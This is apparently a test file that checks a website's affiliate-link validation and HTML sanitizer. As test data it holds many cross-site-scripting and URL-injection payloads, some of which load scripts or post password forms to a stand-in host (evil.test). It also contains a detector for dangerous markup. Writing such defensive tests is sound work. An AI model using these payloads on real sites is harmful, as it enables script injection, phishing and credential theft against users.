import { load } from 'cheerio'
import { eq } from 'drizzle-orm'
import { expect, test } from 'vitest'
import { blogPosts, knowledgeBaseArticles } from '../src/db/schema/content.ts'
import { affiliates } from '../src/db/schema/affiliates.ts'
import { newsletterIssues } from '../src/db/schema/newsletter.ts'
import { createUser } from './accounts.ts'
import { contentsOf } from './database-contents.ts'
import { createWholeSite } from './whole-site.ts'

const { app, send, logged } = await createWholeSite()
const { cookie } = await createUser(app, 'admin')

const ad = { title: 'Pot', linkUrl: 'https://shop.example/pot' }
const links = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://shop.example/%0aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'blob:https://shop.example/1',
  'file:///etc/passwd',
  '//evil.test/pot',
  '/\\evil.test',
  'https:evil',
  'https://shop.example/\r\nSet-Cookie: a=b',
  'https://ann:secret@shop.example/',
]

test.each(links)('refuses an affiliate link to %j in every form', async (linkUrl) => {
  await app.db
    .insert(affiliates)
    .values({ ...ad, id: 'pot' })
    .onConflictDoNothing()
  const before = await contentsOf(app.db)
  const forms: ReadonlyArray<readonly [path: string, fields: Record<string, string>]> = [
    ['/admin/affiliates/new', { ...ad, linkUrl }],
    ['/admin/affiliates/pot', { ...ad, linkUrl, intent: 'save', version: '1' }],
    ['/admin/templates/affiliates', { intent: 'add', title: 'Pot', link_url: linkUrl }],
  ]
  for (const [path, fields] of forms) {
    const answer = await send(path, { cookie, fields })
    expect(answer.status).toBe(422)
    expect(await answer.text()).toContain('Enter a web address that starts with https:// or http://')
    expect(logged().at(-1)).toMatchObject({ method: 'POST', path, status: 422 })
  }
  expect(await contentsOf(app.db)).toEqual(before)
})

test.each(links)('does not redirect to %j stored in the database', async (linkUrl) => {
  await app.db
    .insert(affiliates)
    .values({ ...ad, id: 'odd', linkUrl })
    .onConflictDoUpdate({ target: affiliates.id, set: { linkUrl } })
  const answer = await send('/go/odd')
  expect([answer.status, answer.headers.get('location')]).toEqual([404, null])
  const page = load(await (await send('/')).text())
  const runs = page('a[href]').filter((_, link) => !/^(?:\/|#|https?:|mailto:)/.test(page(link).attr('href') ?? ''))
  expect(runs.length).toBe(0)
})

test('redirects to an international address as browsers write it', async () => {
  await app.db.insert(affiliates).values({ ...ad, id: 'cheese', linkUrl: 'https://käse.example/拉麵?q=€' })
  const location = (await send('/go/cheese')).headers.get('location')
  expect(location).toBe('https://xn--kse-qla.example/%E6%8B%89%E9%BA%B5?q=%E2%82%AC')
})

/** HTML that runs a script or imitates another page in careless sanitizers. */
const markup = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src=x:x onerror\u000b=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object><embed src="//evil.test/x">',
  '<style>@import "//evil.test/x.css"; * { display: none }</style><link rel=stylesheet href=//evil.test/x.css>',
  '<p style="position:fixed;inset:0;background:url(//evil.test)" class="wrap" id="main">x</p>',
  '<form action="https://evil.test"><input name=password><button formaction="javascript:alert(1)">Log in</button></form>',
  '<base href="https://evil.test/"><a href="faq">x</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<a href="javascript:alert(1)">x</a><a href="JaVa&#9;ScRiPt:alert(1)">x</a><a href=" &#1;javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a><a href="//evil.test/">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>"><img srcset="//evil.test/x 1x">',
  '<details open ontoggle=alert(1)><summary>x</summary></details><video><source onerror=alert(1)></video>',
  '<div contenteditable autofocus onfocus=alert(1)>x</div><marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template><slot name=x></slot>',
]

const tags =
  'script style link meta base iframe object embed form input button textarea svg math template video audio details'
const dangerous = tags.split(' ').join(', ')

/**
 * Parses HTML like a browser does. Lists elements and attributes that would run scripts, add frames or change styles.
 */
function harmIn(html: string): Array<string> {
  const page = load(html, null, false)
  const attributes = page('*')
    .toArray()
    .flatMap((element) => Object.entries('attribs' in element ? element.attribs : {}))
    .filter(
      ([name, value]) =>
        /^(?:on|style$|srcdoc|srcset|formaction|xlink)/.test(name) ||
        /^[\s\p{Cc}]*(?:j\s*a\s*v|data:|\/\/)/iu.test(value),
    )
  return [
    ...page(dangerous)
      .toArray()
      .map((element) => ('name' in element ? element.name : '?')),
    ...attributes.map(([name]) => name),
  ]
}

const words = { title: 'Yeast', excerpt: 'Rises.', when: 'now' }

// The excluded examples are harmless, but a careless sanitizer makes them harmful.
test('the harm check recognizes every example', () => {
  expect(markup.filter((html) => harmIn(html).length === 0 && !/<!|<xmp|<scr</.test(html))).toEqual([])
})

test.each(markup.map((html, place) => [html, place] as const))(
  'removes %s from posts, articles and newsletter issues',
  async (html, place) => {
    const content = `<p>Before</p>${html}<p>After</p>`
    const slug = `hostile-${place}`
    for (const path of ['/admin/blog/edit', '/admin/kb/edit'])
      expect((await send(path, { cookie, fields: { ...words, slug, content } })).status).toBeLessThan(400)
    expect((await send('/admin/newsletter/edit', { cookie, fields: { subject: slug, content } })).status).toBeLessThan(
      400,
    )
    const [post] = await app.db.select().from(blogPosts).where(eq(blogPosts.id, slug))
    const [article] = await app.db.select().from(knowledgeBaseArticles).where(eq(knowledgeBaseArticles.slug, slug))
    const [issue] = await app.db.select().from(newsletterIssues).where(eq(newsletterIssues.subject, slug))
    for (const stored of [post, article, issue]) {
      expect(stored?.content).toContain('Before')
      expect(harmIn(stored?.content ?? '')).toEqual([])
    }
  },
)

test.each(markup.map((html, place) => [html, place] as const))(
  'does not show %s stored in the database',
  async (html, place) => {
    const content = `<p>Before</p>${html}<p>After</p>`
    const id = `odd-${place}`
    await app.db.insert(blogPosts).values({ id, title: 'Odd', content })
    await app.db.insert(knowledgeBaseArticles).values({ id, slug: id, title: 'Odd', content })
    for (const path of [`/blog/${id}`, `/kb/${id}`]) {
      const page = load(await (await send(path)).text())
      const shown = page('p')
        .filter((_, line) => page(line).text() === 'Before')
        .parent()
      expect(shown.length).toBeGreaterThan(0)
      expect(harmIn(shown.html() ?? '')).toEqual([])
    }
  },
)
